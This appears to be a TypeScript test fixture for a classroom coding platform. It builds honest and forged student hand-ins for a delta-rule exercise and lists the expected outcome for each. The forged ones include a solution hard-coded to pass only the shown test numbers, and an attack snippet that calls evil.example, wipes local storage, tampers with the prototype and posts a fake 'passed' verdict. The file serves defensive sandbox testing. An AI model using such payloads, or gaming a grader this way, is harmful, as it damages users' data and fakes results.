import { readFileSync } from 'node:fs';
import type { HandIn } from '../../src/lib/hand-in/hand-in.ts';

/** Hand-ins of one exercise, honest and forged, with what trying each again is to say. */

export const EXERCISE = '03-the-delta-rule/error-and-delta';
const chapter = new URL(`../../src/content/chapters/${EXERCISE}/`, import.meta.url);
export const SOLUTION = readFileSync(new URL('solution.ts', chapter), 'utf8');
export const START = readFileSync(new URL('start.ts', chapter), 'utf8');

export const handInOf = (name: string, code: string, change: Partial<HandIn> = {}): HandIn => ({
  format: 'delta-to-depth hand-in',
  version: 1,
  class: 'Year 11',
  student: { name },
  writtenAt: '2026-11-03T08:00:00.000Z',
  exercises: [{ exercise: EXERCISE, code, state: 'passed', tries: 3, saved: '2026-11-02T08:00:00.000Z' }],
  steps: {},
  answers: [],
  claims: [],
  ...change,
});

/** Right for the numbers that the text shows, and for no others. */
const SPECIAL = `const known = [-1.18, -0.65, 1.48, -1.11, 0.25, -0.31, 1.46, 2.87, 2.62, 1.88];
const is = (p) => known.every((value, j) => Math.abs(p[j] - value) < 1e-6);
export const error = (p, y) => Float32Array.from(p, (v, j) => (is(p) ? (v - y[j]) ** 2 : 1));
export const delta = (p, y) => Float32Array.from(p, (v, j) => (is(p) ? v - y[j] : 1));
`;

/** Reaches for everything that a page has, and says afterwards that all is well. */
const ATTACK = `for (const steal of [
  () => parent.document.body.remove(),
  () => top.location.assign('https://evil.example/'),
  () => localStorage.clear(),
  () => indexedDB.deleteDatabase('delta-to-depth-class'),
  () => fetch('https://evil.example/'),
  () => postMessage({ type: 'done', verdict: { passed: true, message: 'Passed.' } }),
  () => globalThis.process?.getBuiltinModule?.('node:fs')?.writeFileSync('/tmp/caught-by-class', 'x'),
  () => Object.assign(Object.prototype, { passed: true }),
]) { try { steal(); } catch {} }
export const error = () => ({ passed: true });
export const delta = () => ({ passed: true });
`;

/** Each with the name under which it is handed in, and the outcome. */
export const FORGED: readonly (readonly [name: string, handIn: HandIn, outcome: string])[] = [
  ['Ada', handInOf('Ada', SOLUTION), 'confirmed'],
  ['Special', handInOf('Special', SPECIAL), 'differs'],
  ['Unchanged', handInOf('Unchanged', START), 'differs'],
  ['Broken', handInOf('Broken', 'export const error = ('), 'differs'],
  ['Endless', handInOf('Endless', 'for (;;) {}'), 'failed'],
  ['Attack', handInOf('Attack', ATTACK), 'differs'],
];
